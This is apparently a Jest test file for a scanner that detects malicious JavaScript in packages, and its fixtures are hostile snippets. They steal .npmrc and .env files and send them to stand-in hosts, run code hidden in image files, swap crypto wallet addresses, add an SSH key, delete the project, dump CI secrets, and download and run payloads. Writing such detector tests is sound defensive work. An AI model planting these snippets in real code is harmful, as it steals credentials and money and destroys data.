import { describe, expect, it } from '@jest/globals';
import { readScript } from '../../../src/code/js/script.ts';

function found(source: string, kind: string): readonly string[] {
  return readScript(source, { module: false, parses: true })
    .spotted.filter((one) => one.kind === kind)
    .map(({ detail, readAs }) => (readAs === 'decoded' ? `${detail} (decoded)` : detail));
}

const fs = "const fs = require('fs'), path = require('path'), os = require('os');";

describe('modules of a bundle that hand on those of Node', () => {
  const bundle = (modules: string, body: string) =>
    `(() => { var all = { ${modules}, 9: (e, x, r) => { ${body} } }; var made = {}; function r(id) { const m = (made[id] = { exports: {} }); all[id](m, m.exports, r); return m.exports; } r(9); })();`;

  it.each([
    ['by a block', '7: (e) => { "use strict"; e.exports = require("fs"); }, 8: (e) => { e.exports = require("https"); }', '7', '8'],
    ['by an expression', '7: (e) => (e.exports = require("fs")), 8: (e) => (e.exports = require("https"))', '7', '8'],
    ['by a name', '"fs": (e) => { e.exports = require("fs"); }, "https": function (e) { e.exports = require("https"); }', '"fs"', '"https"'],
  ])('are what they hand on, %s', (_, modules, files, hosts) => {
    const source = bundle(
      modules,
      `const f = r(${files}); r(${hosts}).request({ host: 'a.invalid', method: 'PUT' }).end(f.readFileSync(process.env.HOME + '/.npmrc'));`,
    );
    expect(found(source, 'exfiltration')[0]).toMatch(/credentials/);
  });

  it('but not where they do more', () => {
    const source = bundle('7: (e) => { e.exports = { readFileSync() {} }; }', "fetch('https://a.invalid', { body: r(7).readFileSync('x') });");
    expect(found(source, 'exfiltration')).toEqual([]);
  });
});

describe('text of a file that is no script', () => {
  it.each(['logo.png', 'assets/font.woff2', 'LICENSE.txt'])('runs: %s', (name) => {
    const source = `${fs} const raw = fs.readFileSync(path.join(__dirname, '${name}')); new Function('require', raw.subarray(raw.indexOf('IEND') + 8).toString())(require);`;
    expect(found(source, 'decode-execute')).toEqual(['Function of a file that is no script (decoded)']);
  });

  it('that of a script, or of one that is given, is another matter', () => {
    expect(found(`${fs} eval(fs.readFileSync(path.join(__dirname, 'worker.js'), 'utf8'));`, 'decode-execute')).toEqual([]);
    expect(found(`${fs} exports.render = (file) => new Function('it', fs.readFileSync(file, 'utf8'));`, 'decode-execute')).toEqual([]);
  });
});

describe('payment addresses', () => {
  const own = "'0x1111111111111111111111111111111111111122'";

  it('looked for where functions of the page are replaced', () => {
    const source = `const get = window.fetch; window.fetch = async (...a) => { const r = await get(...a); return new Response((await r.text()).replace(/0x[a-fA-F0-9]{40}/g, (m) => near(m))); };`;
    expect(found(source, 'address-table')).toEqual(['a pattern that finds payment addresses']);
    expect(
      found(`const wallet = window.ethereum; const own = ${own}; exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text);`, 'address-table'),
    ).toEqual([]);
    expect(found(`exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text);`, 'address-table')).toEqual([]);
  });

  it('put in place of what is copied', () => {
    const source = `document.addEventListener('copy', (event) => { if (/^(bc1|[13])[a-z0-9]{25,39}$/i.test(String(getSelection()))) event.clipboardData.setData('text/plain', ${own}); });`;
    expect(found(source, 'clipboard')).toEqual(['what is copied is replaced']);
    expect(found(source, 'address-table')).toEqual(['a payment address, and a pattern that finds others']);
    expect(found(source.replace(own, 'plain()'), 'clipboard')).toEqual([]);
  });
});

describe('files of others', () => {
  it('of another package, asked for by name, are changed', () => {
    const source = `${fs} const at = require.resolve('wallet-kit/lib/provider.js'); fs.writeFileSync(at, fs.readFileSync(at, 'utf8') + more);`;
    expect(found(source, 'package-tamper')).toEqual(['a file of another package, written']);
    expect(found(source.replace("'wallet-kit/lib/provider.js'", "'./lib/provider.js'"), 'package-tamper')).toEqual([]);
    expect(found(`${fs} const at = require.resolve('wallet-kit/package.json'); fs.writeFileSync('seen.txt', at);`, 'package-tamper')).toEqual([]);
  });

  it('of the project are removed as they are found', () => {
    const sweep = `${fs} function clear(dir) { fs.readdirSync(dir).forEach((f) => fs.rmSync(path.join(dir, f), { recursive: true })); } clear(process.cwd());`;
    expect(found(sweep, 'destructive')).toEqual(['what it finds in the project']);
    expect(found(sweep.replace('clear(process.cwd())', "clear(path.join(os.tmpdir(), 'mine'))"), 'destructive')).toEqual([]);
  });

  it('let one in who brings a key', () => {
    const at = "path.join(os.homedir(), '.ssh', 'authorized_keys')";
    expect(found(`${fs} fs.appendFileSync(${at}, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA a@b');`, 'credential-file')).toContain(
      'SSH keys, one of its own written',
    );
    expect(found(`${fs} exports.allow = (key) => fs.appendFileSync(${at}, key);`, 'credential-file')).not.toContain(
      'SSH keys, one of its own written',
    );
  });
});

it('mail that is copied to somebody', () => {
  expect(found("send({ to, bcc: 'x@drop.invalid' });", 'messenger')).toEqual(['hidden copy of mail to x@drop.invalid']);
  expect(found("send({ to, 'Bcc': ['X <x@drop.invalid>'] });", 'messenger')).toEqual(['hidden copy of mail to X <x@drop.invalid>']);
  expect(found("send({ to, bcc: 'you@example.com' });", 'messenger')).toEqual([]);
});

it('a workflow that takes all secrets', () => {
  const open = '$' + '{{';
  expect(found(`const text = 'S: ${open} toJSON(secrets) }}';`, 'secret-scanner')).toEqual(['workflow that takes all secrets']);
  expect(found(`const text = 'S: ${open} secrets.TOKEN }}';`, 'secret-scanner')).toEqual([]);
  const pieces = `${fs} const all = 'secrets'; fs.writeFileSync('.github/workflows/x.yml', 'S: $' + '{{ toJSON(' + all + ') }}');`;
  expect(found(pieces, 'secret-scanner')).toEqual(['workflow that takes all secrets']);
});

describe('what was fetched', () => {
  const get = `${fs} const https = require('https'), { spawnSync } = require('child_process'); const file = path.join(os.tmpdir(), 'a.zip'); https.get('https://a.invalid/x', (r) => r.pipe(fs.createWriteStream(file)));`;

  it('is not started by unpacking it, but what comes out of it may be', () => {
    expect(found(`${get} spawnSync('unzip', ['-q', file, '-d', 'out']);`, 'download-execute')).toEqual([]);
    expect(found(`${get} spawnSync('unzip', ['-q', file, '-d', 'out']); spawnSync('./out/run');`, 'download-execute')).not.toEqual([]);
    expect(found(`${get} spawnSync('sh', [file]);`, 'download-execute')).not.toEqual([]);
  });
});

describe('files of credentials', () => {
  const seen =
    "const seen = async (dir) => Promise.all((await fs.promises.readdir(dir)).filter((f) => PATTERN.test(f)).map(async (f) => fs.promises.readFile(path.join(dir, f), 'utf8')));";
  const send = (pattern: string, end: string) =>
    `${fs} ${seen.replace('PATTERN', pattern)} const tell = async () => { const body = JSON.stringify(await seen(process.cwd())); await fetch('https://stats.invalid/v1', { method: 'POST', body }); }; exports.run = () => { tell()${end}; };`;

  it('found by a pattern, and sent so that nobody hears of a failure', () => {
    expect(found(send(String.raw`/(^|[\\/])\.env(\.\w+)?$/`, '.catch(() => {})'), 'exfiltration')).toEqual([
      expect.stringMatching(/credentials.* to stats\.invalid unnoticed$/),
    ]);
    expect(found(send(String.raw`/\.env$/`, ''), 'exfiltration')).toEqual([expect.stringMatching(/credentials.* to stats\.invalid$/)]);
    expect(found(send(String.raw`/\.md$/`, '.catch(() => {})'), 'exfiltration')).toEqual(['contents of files to stats.invalid']);
    expect(found(send(String.raw`/process\.env\.(\w+)/`, ''), 'exfiltration')).toEqual(['contents of files to stats.invalid']);
  });
});
